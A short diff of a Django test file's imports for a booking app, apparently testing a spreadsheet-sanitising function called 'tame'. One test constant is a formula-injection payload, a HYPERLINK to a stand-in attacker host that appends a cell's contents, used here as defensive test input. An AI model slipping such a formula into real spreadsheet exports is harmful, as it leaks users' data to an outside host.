@@ -8,10 +8,10 @@ import icalendar
 import pytest
 from django.urls import reverse
 
-from stageslot.web.spreadsheets import tame
 from tests.bookings.desk.holds import a_ladder
 from tests.bookings.scenes import a_confirmed_booking, an_open_show
 from tests.factories import FAR_SATURDAY, ShowFactory, UserFactory
+from web.spreadsheets import tame
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Tide")'
